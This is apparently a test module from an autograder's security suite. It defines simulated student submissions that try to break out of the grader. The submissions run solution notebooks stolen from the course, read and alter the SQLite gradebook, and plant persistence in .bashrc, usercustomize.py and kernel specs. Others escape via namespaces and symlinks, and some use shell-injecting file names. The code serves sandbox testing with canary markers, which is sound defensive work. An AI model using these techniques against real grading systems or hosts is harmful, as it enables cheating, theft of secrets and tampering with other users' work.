"""Attacks on files: what the grading user can read is read, and what can be changed is changed (if it is a canary)."""

from __future__ import annotations

import os

from autograde.tests.attacks.corpus import ASK, DOUBLE, EXACTLY, Submission, attack
from autograde.tests.attacks.process import DAEMON

STEALS = """
import glob
import json

def steal(pattern, names):
    for path in glob.glob(pattern):
        try:
            with open(path, encoding="utf-8") as file:
                cells = json.load(file)["cells"]
            for cell in cells:
                if cell["cell_type"] == "code" and str(cell.get("id")).startswith("answer"):
                    exec("".join(cell["source"]), globals())
        except Exception:
            pass

"""


@attack(ASK, needs_sandbox=True)
def takes_the_solution(submission: Submission) -> None:
    """Runs the solution that lies in the course."""
    submission.answers(STEALS + 'steal(COURSE + "/solutions/*/1.2-ask.ipynb", "ask")')


@attack(EXACTLY, needs_sandbox=True)
def takes_the_solution_of_both(submission: Submission) -> None:
    """The same where two functions are asked for."""
    submission.answers(STEALS + 'steal(COURSE + "/solutions/*/1.4*.ipynb", "recv_exactly")')


@attack(DOUBLE, needs_sandbox=True)
def takes_the_answer_of_a_classmate(submission: Submission) -> None:
    """Runs what somebody else has handed in."""
    submission.answers(STEALS + 'steal(COURSE + "/submitted/000*/*/1.9-double.ipynb", "double")')


@attack(DOUBLE, needs_sandbox=True)
def takes_the_answer_through_a_process(submission: Submission) -> None:
    """Reaches the same through the root and the working directory of the processes above."""
    submission.answers(STEALS + """
import os

for pid in (1, os.getppid(), "self", "thread-self"):
    steal(f"/proc/{pid}/root" + COURSE + "/solutions/*/1.9-double.ipynb", "double")
    steal(f"/proc/{pid}/cwd/solutions/*/1.9-double.ipynb", "double")
""")  # fmt: skip


@attack(DOUBLE, needs_sandbox=True)
def shows_the_course(submission: Submission) -> None:
    """Prints every line with a secret that it finds in the course: solutions, checks, submissions."""
    submission.answers("""
        import os

        def double(n):
            for folder, _, names in os.walk(COURSE):
                for name in names:
                    try:
                        with open(os.path.join(folder, name), encoding="utf-8", errors="replace") as file:
                            for line in file:
                                if "canary" in line:
                                    confess(line[:200])
                    except OSError:
                        pass
    """)


@attack(DOUBLE, needs_sandbox=True)
def raises_secrets(submission: Submission) -> None:
    """The same, told in an exception, in a type's name, and in a returned text."""
    submission.answers("""
        import glob

        def double(n):
            texts = []
            for pattern in ("/solutions/*/1.9*.ipynb", "/submitted/000*/*/*.ipynb"):
                for path in glob.glob(COURSE + pattern):
                    with open(path) as file:
                        texts += [line for line in file if "canary" in line]
            secret = "".join(texts)
            if n == 2:
                return secret
            if n == 3:
                raise ValueError(secret)
            raise type(secret or "E", (Exception,), {})(secret)
    """)


@attack(DOUBLE, needs_sandbox=True)
def reads_the_gradebook(submission: Submission) -> None:
    """Reads students and hidden checks out of the database."""
    submission.answers("""
        import sqlite3

        def double(n):
            try:
                book = sqlite3.connect(f"file:{COURSE}/gradebook.db?mode=ro", uri=True)
                for row in book.execute("SELECT id FROM student"):
                    confess(row)
                for row in book.execute("SELECT source FROM source_cell WHERE source LIKE '%canary%'"):
                    confess(row)
                book.close()
            except sqlite3.Error:
                pass
    """)


@attack(DOUBLE, needs_sandbox=True)
def gives_extra_credit(submission: Submission) -> None:
    """Writes manual scores and extra credit into the gradebook, where grading never resets them."""
    submission.answers("""
        import os
        import sqlite3

        def double(n):
            try:
                book = sqlite3.connect(f"file:{COURSE}/gradebook.db?mode=rw", uri=True, timeout=0.5)
                book.execute("UPDATE grade SET extra_credit = 7, manual_score = 7")
                book.commit()
                book.close()
            except sqlite3.Error:
                pass
    """)


@attack(DOUBLE, needs_sandbox=True)
def waits_for_its_grade(submission: Submission) -> None:
    """A daemon waits until its zero is stored, and turns it into more."""
    submission.answers(DAEMON + """
import sqlite3

def wait():
    end = time.monotonic() + 30
    while time.monotonic() < end:
        try:
            book = sqlite3.connect(f"file:{COURSE}/gradebook.db?mode=rw", uri=True, timeout=0.5)
            changed = book.execute("UPDATE grade SET extra_credit = 9 WHERE auto_score = 0").rowcount
            book.commit()
            book.close()
            if changed > 0:
                return
        except sqlite3.Error:
            pass
        time.sleep(0.1)

def double(n):
    daemon(wait, seconds=1)
""")  # fmt: skip


@attack(DOUBLE)
def locks_the_gradebook(submission: Submission) -> None:
    """A daemon keeps the gradebook locked for twelve seconds."""
    submission.answers(DAEMON + """
import sqlite3

def lock():
    global book
    try:
        book = sqlite3.connect(f"file:{COURSE}/gradebook.db?mode=rw", uri=True, timeout=0.5)
        book.execute("BEGIN EXCLUSIVE")
    except sqlite3.Error:
        pass

def double(n):
    daemon(lock, seconds=12)
""")  # fmt: skip


@attack(DOUBLE, needs_sandbox=True)
def rewrites_the_solution(submission: Submission) -> None:
    """Adds to the solutions, the release and the configuration of the course."""
    submission.answers("""
        import glob

        def double(n):
            patterns = ("/solutions/*/1.4*.ipynb", "/exercises/*/1.4*.ipynb", "/nbgrader_config.py")
            for pattern in patterns:
                for path in glob.glob(COURSE + pattern):
                    try:
                        with open(path, "a") as file:
                            file.write("\\n" if path.endswith("ipynb") else f"# {MARK}\\n")
                    except OSError:
                        pass
    """)


@attack(DOUBLE, needs_sandbox=True)
def rewrites_the_work_of_classmates(submission: Submission) -> None:
    """Replaces what others have handed in and what was graded, and adds a file to each folder."""
    submission.answers("""
        import glob

        def double(n):
            for path in glob.glob(COURSE + "/submitted/*/*/1.9-double.ipynb"):
                if "classmate" in path:
                    try:
                        with open(path, "r+") as file:
                            file.truncate(0)
                            file.write(MARK)
                    except OSError:
                        pass
            for folder in ("submitted", "autograded", "feedback"):
                try:
                    with open(f"{COURSE}/{folder}/{MARK}", "w") as file:
                        file.write(MARK)
                except OSError:
                    pass
    """)


@attack(DOUBLE, needs_sandbox=True)
def reads_home(submission: Submission) -> None:
    """Reads the secrets in the home directory of whoever grades."""
    submission.answers("""
        import os
        import pwd

        def double(n):
            for folder in (HOME, os.path.expanduser("~"), pwd.getpwuid(os.getuid()).pw_dir):
                try:
                    with open(os.path.join(folder, "secret.txt")) as file:
                        confess(file.read())
                except OSError:
                    pass
    """)


@attack(DOUBLE, needs_sandbox=True)
def writes_to_home(submission: Submission) -> None:
    """Adds lines to what the shell of whoever grades reads at its start."""
    submission.answers("""
        def double(n):
            for name in (".bashrc", ".profile", ".netrc"):
                try:
                    with open(f"{HOME}/{name}", "a") as file:
                        file.write(f"# {MARK}\\n")
                except OSError:
                    pass
    """)


@attack(DOUBLE, needs_sandbox=True)
def moves_into_every_python(submission: Submission) -> None:
    """Puts a program where every Python, every IPython and every kernel of the user begins, for the next submission."""
    submission.answers("""
        import os
        import sys

        program = f"open({OUTSIDE + '/' + MARK!r}, 'w').close()"
        places = (
            f"/.local/lib/python3.{sys.version_info[1]}/site-packages/usercustomize.py",
            "/.ipython/profile_default/startup/00-first.py",
        )

        def double(n):
            for place in places:
                try:
                    os.makedirs(os.path.dirname(HOME + place), exist_ok=True)
                    with open(HOME + place, "w") as file:
                        file.write(program)
                except OSError:
                    pass
    """)


@attack(DOUBLE, needs_sandbox=True)
def replaces_the_kernel(submission: Submission) -> None:
    """Installs a kernel specification for the user, which runs a program in the place of the next kernel."""
    submission.answers("""
        import json
        import os

        def double(n):
            folder = HOME + "/.local/share/jupyter/kernels/python3"
            spec = {"argv": ["touch", f"{OUTSIDE}/{MARK}"], "display_name": "Python 3", "language": "python"}
            try:
                os.makedirs(folder, exist_ok=True)
                with open(folder + "/kernel.json", "w") as file:
                    json.dump(spec, file)
            except OSError:
                pass
    """)


@attack(DOUBLE, needs_sandbox=True)
def opens_the_environment_for_writing(submission: Submission) -> None:
    """Opens the files of the grader, of Python and of the kernel for writing (and writes nothing)."""
    package = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
    submission.answers(f"""
        import json
        import sys

        def double(n):
            for path in ({package!r} + "/examiner/runner.py", json.__file__, sys.executable,
                         "/proc/sys/kernel/core_pattern", "/etc/passwd"):
                try:
                    with open(path, "r+b"):
                        confess("could write to", path)
                except OSError:
                    pass
    """)


@attack(DOUBLE)
def the_grader_in_its_own_process(submission: Submission) -> None:
    """Imports the grader, nbgrader and everything else that could help, in its own process."""
    package = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))))
    submission.answers(f"""
        import sys

        sys.path.insert(0, {package!r})

        def double(n):
            try:
                from autograde.examiner import examine
                from autograde.examiner.score import Score
                Score.__enter__ = Score.__exit__ = lambda *anything: True
                examine.examine = lambda *anything: []
            except Exception:
                pass
    """)


@attack(DOUBLE, needs_sandbox=True)
def digs_under_mounts(submission: Submission) -> None:
    """Makes namespaces of its own and a fresh /proc in them, to get at what is covered."""
    submission.answers("""
        import ctypes
        import glob
        import os

        def dig():
            libc = ctypes.CDLL(None)
            if libc.unshare(0x10000000 | 0x00020000 | 0x20000000) == 0 and os.fork() == 0:
                os.makedirs("proc", exist_ok=True)
                libc.mount(b"proc", b"proc", b"proc", 0, None)
            for root in ("", *glob.glob("proc/*/root"), *glob.glob("/proc/*/root")):
                try:
                    with open(f"{root}{HOME}/secret.txt") as file:
                        confess(file.read())
                        return
                except OSError:
                    pass

        def double(n):
            pid = os.fork()
            if pid == 0:
                try:
                    dig()
                finally:
                    os._exit(0)
            os.waitpid(pid, 0)
    """)


@attack(DOUBLE)
def a_link_to_the_gradebook(submission: Submission) -> None:
    """Hands in symbolic links to the solution, to the gradebook and to the home directory."""
    submission.answers("""
        import os

        def double(n):
            for name in os.listdir("."):
                if os.path.isfile(name) and name.startswith("link"):
                    with open(name, errors="replace") as file:
                        for line in file:
                            if "canary" in line:
                                confess(line[:300])
    """)
    here = submission.folder
    targets = submission.targets
    (here / "link-home").symlink_to(targets.home / "secret.txt")
    (here / "link-solution").symlink_to(targets.course / "solutions" / here.name / f"{DOUBLE}.ipynb")
    (here / "link-gradebook").symlink_to(targets.course / "gradebook.db")
    (here / "link-folder").symlink_to(targets.course / "solutions")


@attack(DOUBLE)
def a_notebook_that_is_a_link(submission: Submission) -> None:
    """What is handed in is a link to the solution itself."""
    path = submission.folder / f"{DOUBLE}.ipynb"
    path.unlink()
    path.symlink_to(submission.targets.course / "solutions" / submission.folder.name / path.name)


@attack(DOUBLE)
def names_that_lead_elsewhere(submission: Submission) -> None:
    """Files whose names lead upward in other systems, or mean something to shells and patterns."""
    submission.answers("")
    for name in ("..\\..\\1.4-exactly-n.ipynb", "%2e%2e%2fsolutions.ipynb", "$(touch x).ipynb", "-rf.ipynb", "*.ipynb"):
        submission.beside(name, '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')


@attack(DOUBLE)
def writes_where_it_stands(submission: Submission) -> None:
    """Writes notebooks and pages beside itself, which somebody might collect with the graded one."""
    submission.answers("""
        import os

        def double(n):
            for name in ("1.9-double.ipynb", "1.4-exactly-n.ipynb", "1.9-double.html", "timestamp.txt"):
                try:
                    with open(name, "w") as file:
                        file.write(MARK)
                except OSError:
                    pass
    """)


@attack(DOUBLE, needs_sandbox=True)
def writes_above(submission: Submission) -> None:
    """Leaves a file in the folder above its own, where the grading run keeps its temporary files."""
    submission.answers("""
        def double(n):
            try:
                with open("../" + MARK, "w") as file:
                    file.write(MARK)
            except OSError:
                pass
    """)


@attack(DOUBLE)
def removes_where_it_stands(submission: Submission) -> None:
    """Removes everything in its own working directory, and the directory itself."""
    submission.answers("""
        import os

        def double(n):
            here = os.getcwd()
            for name in os.listdir(here):
                try:
                    os.unlink(name)
                except OSError:
                    pass
            try:
                os.rmdir(here)
            except OSError:
                pass
    """)
